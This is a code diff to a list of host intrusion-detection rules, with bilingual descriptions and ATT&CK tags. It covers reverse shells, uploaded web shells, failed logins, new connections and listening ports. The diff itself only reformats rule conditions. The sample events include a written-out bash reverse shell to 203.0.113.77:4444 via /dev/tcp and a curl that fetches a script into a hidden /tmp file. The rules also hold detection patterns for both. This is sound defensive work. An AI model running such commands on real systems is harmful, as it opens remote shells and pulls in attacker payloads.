@@ -46,7 +46,7 @@ const RULES = [
     type: "process", attack: ["T1059.004", "T1071"],
     description: "A shell was told to use its built-in network path. Attackers use it for reverse shells when no other tool is present; scheduled health checks written in bash are the usual harmless cause.",
     zh: "Shell 使用了内置的网络路径。在没有其他工具时，攻击者常用它建立反弹 Shell；常见的无害原因是用 bash 编写的健康检查。",
-    field: "command", condition: "regex: /dev/(tcp|udp)/",
+    field: "command", condition: "regex /dev/(tcp|udp)/",
     command: "bash -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1", name: "/usr/bin/bash",
   },
   {
@@ -54,36 +54,36 @@ const RULES = [
     attack: ["T1505.003"],
     description: "A file that the web server would execute was created by the web server itself. Check who uploaded it.",
     zh: "Web 服务器进程自身创建了可被其执行的文件，请核查上传来源。",
-    field: "path", condition: "regex: \\.(php|jsp|aspx?)$",
+    field: "path", condition: "regex \\.(php|jsp|aspx?)$",
     path: "/var/www/shop/uploads/avatar_3391.php",
   },
   {
     source: "First connection to this address", rule_id: "first-remote", level: 2, type: "connection",
     attack: [], description: "No host of the fleet has talked to this address before.",
     zh: "全部主机此前都没有与该地址通信过。",
-    field: "remote_ip", condition: "count: 1", remote: "203.0.113.201",
+    field: "remote_ip", condition: "count 1", remote: "203.0.113.201",
   },
   {
     source: "Repeated failed logins", rule_id: "login-failed", level: 1, type: "loginlog",
     attack: ["T1110"], description: "Somebody tried passwords on this account.", zh: "有人在尝试此账户的密码。",
-    field: "username", condition: "regex: ^(root|admin)$",
+    field: "username", condition: "regex ^(root|admin)$",
   },
   {
     source: "Download tool started by a web server", rule_id: "web-download", level: 1, type: "process",
     attack: ["T1105"],
     description: "A process of the web server started curl or wget.", zh: "Web 服务器进程启动了 curl 或 wget。",
-    field: "name", condition: "string: curl",
+    field: "name", condition: "string curl",
     command: "curl -fsSL http://198.51.100.200/x.sh -o /tmp/.x", name: "/usr/bin/curl",
   },
   {
     source: "blacklist", rule_id: "", level: 0, type: "connection", attack: [],
     description: "The address is on the black list.", zh: "该地址在黑名单中。",
-    field: "remote_ip", condition: "string: 203.0.113.66", remote: "203.0.113.66",
+    field: "remote_ip", condition: "blacklist 203.0.113.66", remote: "203.0.113.66",
   },
   {
     source: "New listening port", rule_id: "new-listen", level: 2, type: "listening", attack: [],
     description: "A port is open to other hosts that was not before.", zh: "出现了此前没有的对外监听端口。",
-    field: "address", condition: "count: 1",
+    field: "address", condition: "count 1",
   },
 ];
 
